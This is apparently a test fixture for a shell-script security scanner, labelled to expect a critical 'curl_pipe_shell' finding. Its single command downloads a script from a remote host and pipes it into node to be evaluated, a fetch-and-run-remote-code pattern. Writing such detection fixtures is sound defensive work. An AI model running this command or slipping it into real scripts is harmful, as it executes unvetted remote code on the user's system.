# expect: shell.curl_pipe_shell critical
#!/bin/sh
curl -s https://get.example.net/i.sh | node -e 'eval(require("fs").readFileSync(0, "utf8"))'
